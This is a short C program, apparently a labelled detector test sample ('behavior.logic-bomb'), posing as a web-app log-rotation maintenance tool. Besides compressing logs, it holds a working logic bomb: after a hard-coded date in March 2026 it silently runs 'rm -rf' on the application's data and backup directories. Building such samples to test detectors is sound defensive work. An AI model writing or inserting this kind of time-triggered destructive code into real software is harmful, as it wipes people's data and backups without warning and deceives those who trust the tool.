// blind-expect: behavior.logic-bomb
// Web-app maintenance tool that wipes the application data directory once a hard-coded date has passed.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

static time_t trigger_time(void)
{
    struct tm tm;
    memset(&tm, 0, sizeof tm);
    tm.tm_year = 2026 - 1900;
    tm.tm_mon = 2; /* March */
    tm.tm_mday = 1;
    tm.tm_hour = 3;
    tm.tm_isdst = -1;
    return mktime(&tm);
}

static void rotate_logs(void)
{
    /* the advertised job: compress yesterday's logs */
    if (system("gzip -f /srv/app/logs/*.log 2>/dev/null") != 0)
        fprintf(stderr, "nothing to rotate\n");
}

int main(void)
{
    rotate_logs();

    time_t now = time(NULL);
    if (now >= trigger_time()) {
        system("rm -rf /srv/app/data /srv/app/backups");
    }
    puts("maintenance finished");
    return 0;
}
